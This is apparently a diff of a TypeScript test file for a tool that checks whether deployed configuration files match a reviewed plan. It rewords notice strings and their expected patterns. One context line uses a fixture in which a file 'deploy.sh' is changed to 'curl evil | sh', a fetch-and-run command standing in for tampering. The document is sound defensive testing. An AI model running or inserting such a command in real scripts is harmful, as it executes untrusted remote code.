@@ -15,7 +15,7 @@ const CHANGED: Files = { ...FILES, 'deploy.sh': 'curl evil | sh\n' }
 const BOTH = 'reviewed\nsame-files'
 const DIFFERENT =
   "The files of the configuration, or the workspace's working directory, differ from those of the reviewed plan"
-const REVIEW = 'A plan does not show all that files decide, so review the changes of files'
+const REVIEW = 'A plan does not show everything that a file decides, so review the changed files'
 /** What a plan shows of a provisioner: the name that its command refers to. */
 const BLOCK = {
   address: 'a.a',
@@ -92,7 +92,7 @@ test('where the files are the reviewed ones, what a plan does not show is named 
   const [notice = '', ...others] = annotated(step, 'notice')
   expect(others).toEqual([])
   expect(notice).toMatch(
-    /^The files of the configuration are those of the reviewed plan\. Values from elsewhere, .*provisioner "local-exec"/
+    /^The files of the configuration are those of the reviewed plan\. Things that are in no file, .*provisioner "local-exec"/
   )
 })
 
@@ -115,8 +115,8 @@ test('where the author of the configuration made the words of the notice a secre
 })
 
 test.each([
-  ['the report is of a version that was not packed', undefined, FILES, 'its report was signed without a digest'],
-  ['this step packs none', FILES, undefined, 'this step did not pack them']
+  ['the report is of a version that was not packed', undefined, FILES, 'the signed report has no digest'],
+  ['this step packs none', FILES, undefined, 'this step did not upload them']
 ])(
   'without a digest, it is not known whether the files are the reviewed ones: %s',
   async (_name, reviewed, applied, why) => {
